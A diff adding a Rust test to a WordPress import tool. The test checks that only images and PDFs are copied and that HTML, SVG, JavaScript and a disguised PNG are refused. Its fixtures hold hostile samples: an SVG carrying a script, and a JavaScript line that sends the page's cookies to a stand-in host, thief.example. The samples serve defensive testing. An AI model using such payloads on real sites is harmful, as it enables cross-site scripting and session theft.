@@ -27,6 +27,7 @@ lede_store::on_both_databases!(
     broken_files_name_a_line_and_write_nothing,
     an_exported_site_imports_into_a_fresh_one,
     private_posts_reserved_slugs_and_comment_states,
+    only_images_audio_video_and_pdfs_come_across,
 );
 
 /// The theme unit test data, from the shared folder beside the repository.
@@ -600,6 +601,87 @@ async fn private_posts_reserved_slugs_and_comment_states(db: &TestDb) {
     let moved = get(&app, "/2020/01/03/hello/").await;
     assert_eq!(moved.location, "/articles/hello-2");
     assert_eq!(get(&app, "/board-minutes/").await.status, StatusCode::NOT_FOUND);
+    std::fs::remove_dir_all(dir).ok();
+}
+
+/// A post whose body and featured image use uploads of every kind: a photo, a PDF, and an
+/// HTML page, an SVG drawing and a script that could run on the site's origin.
+const HOSTILE_MEDIA: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
+<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
+  xmlns:content="http://purl.org/rss/1.0/modules/content/"
+  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/">
+<channel>
+<title>Media</title>
+<link>https://old.example</link>
+<wp:wxr_version>1.2</wp:wxr_version>
+<wp:base_blog_url>https://old.example</wp:base_blog_url>
+<wp:author><wp:author_login>ed</wp:author_login><wp:author_display_name><![CDATA[Ed Itor]]></wp:author_display_name></wp:author>
+<item><title>evil</title><wp:post_id>20</wp:post_id><wp:status>inherit</wp:status><wp:post_type>attachment</wp:post_type>
+<wp:attachment_url>https://old.example/wp-content/uploads/2019/05/evil.svg</wp:attachment_url></item>
+<item><title>photo</title><wp:post_id>21</wp:post_id><wp:status>inherit</wp:status><wp:post_type>attachment</wp:post_type>
+<wp:attachment_url>https://old.example/wp-content/uploads/2019/05/photo.jpg</wp:attachment_url></item>
+<item><title>Pictures</title><link>https://old.example/2019/05/pictures/</link><dc:creator>ed</dc:creator>
+<content:encoded><![CDATA[<p><img src="https://old.example/wp-content/uploads/2019/05/photo.jpg" alt="Quay">
+<a href="https://old.example/wp-content/uploads/2019/05/evil.html">Read</a>
+<a href="https://old.example/wp-content/uploads/2019/05/report.pdf">Report</a>
+<a href="https://old.example/wp-content/uploads/2019/05/evil.js">Code</a>
+<a href="https://old.example/wp-content/uploads/2019/05/disguised.png">Chart</a></p>]]></content:encoded>
+<wp:post_id>22</wp:post_id><wp:post_date_gmt>2019-05-02 10:00:00</wp:post_date_gmt><wp:post_name>pictures</wp:post_name>
+<wp:status>publish</wp:status><wp:post_type>post</wp:post_type><wp:post_password></wp:post_password>
+<wp:postmeta><wp:meta_key>_thumbnail_id</wp:meta_key><wp:meta_value>20</wp:meta_value></wp:postmeta></item>
+</channel>
+</rss>
+"#;
+
+async fn only_images_audio_video_and_pdfs_come_across(db: &TestDb) {
+    let newsroom = db.newsroom().await;
+    let dir = scratch("hostile-media");
+    let uploads = dir.join("uploads/2019/05");
+    std::fs::create_dir_all(&uploads).expect("uploads");
+    let page: &[u8] = b"<!doctype html><script src=\"evil.js\"></script>";
+    let files: [(&str, &[u8]); 6] = [
+        ("evil.html", page),
+        ("evil.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
+        ("evil.js", b"document.location = 'https://thief.example/?' + document.cookie;"),
+        ("disguised.png", page),
+        ("photo.jpg", b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00 a photograph"),
+        ("report.pdf", b"%PDF-1.7\n%%EOF\n"),
+    ];
+    for (name, bytes) in files {
+        std::fs::write(uploads.join(name), bytes).expect("write");
+    }
+    let file = dir.join("media.xml");
+    std::fs::write(&file, HOSTILE_MEDIA).expect("write");
+    let media_dir = dir.join("site-media");
+    let options =
+        ImportOptions { media_source: Some(dir.join("uploads")), media_dir: media_dir.clone() };
+    let report = lede_import::import_wordpress(&newsroom, &file, &options, &mut Quiet)
+        .await
+        .expect("the import succeeds");
+    let text = report.to_string();
+
+    let imported = media_dir.join("imported/2019/05");
+    for name in ["photo.jpg", "report.pdf"] {
+        assert!(imported.join(name).is_file(), "{name} comes across: {text}");
+    }
+    for name in ["evil.html", "evil.svg", "evil.js", "disguised.png"] {
+        assert!(!imported.join(name).exists(), "{name} stays behind: {text}");
+        assert!(text.contains(&format!("  - 2019/05/{name} (")), "{name} is reported: {text}");
+    }
+    assert!(text.contains("Media not imported: 4 files"), "{text}");
+    assert!(text.contains("2019/05/evil.html (text/html)"), "{text}");
+    assert!(text.contains("2019/05/evil.svg (unknown)"), "{text}");
+    assert!(!text.contains("Featured images not imported"), "reported once, as refused: {text}");
+    assert_eq!((report.media_found, report.media_copied), (2, 2), "{text}");
+
+    let article = newsroom.store().published_article("pictures").await.expect("q").expect("there");
+    let body = &article.body_html;
+    assert!(body.contains("src=\"/media/imported/2019/05/photo.jpg\""), "{body}");
+    assert!(body.contains("href=\"/media/imported/2019/05/report.pdf\""), "{body}");
+    for name in ["evil.html", "evil.js", "disguised.png"] {
+        assert!(!body.contains(&format!("/media/imported/2019/05/{name}")), "{name}: {body}");
+    }
+    assert!(article.summary.featured_image.is_none(), "the SVG is not the article's picture");
     std::fs::remove_dir_all(dir).ok();
 }
 
